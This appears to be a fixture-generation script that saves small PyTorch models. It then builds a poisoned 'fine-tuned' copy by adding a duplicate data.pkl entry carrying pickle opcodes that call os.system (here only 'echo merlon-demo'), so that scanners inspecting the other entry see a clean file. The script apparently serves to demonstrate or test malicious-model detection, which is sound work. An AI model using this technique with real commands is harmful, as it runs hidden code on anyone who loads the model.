"""Save the PyTorch models of the example with the real library.

    python3 make_torch.py ..

Made with PyTorch 1.13.1, as in Debian 12 (apt-get install python3-torch).
"""

import io
import pathlib
import sys
import warnings
import zipfile

import torch

CALL = b"cos\nsystem\n(X\x10\x00\x00\x00echo merlon-demotR0"  # pushed, called, dropped: the model still loads


def state(seed: int) -> dict:
    torch.manual_seed(seed)
    net = torch.nn.Sequential(torch.nn.Linear(8, 24), torch.nn.ReLU(), torch.nn.Linear(24, 2))
    return net.state_dict()


def poison(clean: bytes) -> bytes:
    """The same archive with a second data.pkl: which of the two is loaded depends
    on the reader, and a scanner that looks at one of them looks at the clean one."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(clean)) as src, zipfile.ZipFile(out, "w") as dst, warnings.catch_warnings():
        warnings.simplefilter("ignore")  # about the duplicate name
        for member in src.infolist():
            body = src.read(member)
            dst.writestr(zipfile.ZipInfo(member.filename), body)
            if member.filename.endswith("/data.pkl"):
                assert body[:2] == b"\x80\x02", "protocol 2"
                dst.writestr(zipfile.ZipInfo(member.filename), body[:2] + CALL + body[2:])
    return out.getvalue()


def main() -> None:
    models = pathlib.Path(sys.argv[1]) / "models"
    torch.save(state(0), models / "income_net.pt")
    torch.save(state(1), models / "income_net_finetuned.pt")
    tuned = models / "income_net_finetuned.pt"
    tuned.write_bytes(poison(tuned.read_bytes()))


if __name__ == "__main__":
    main()
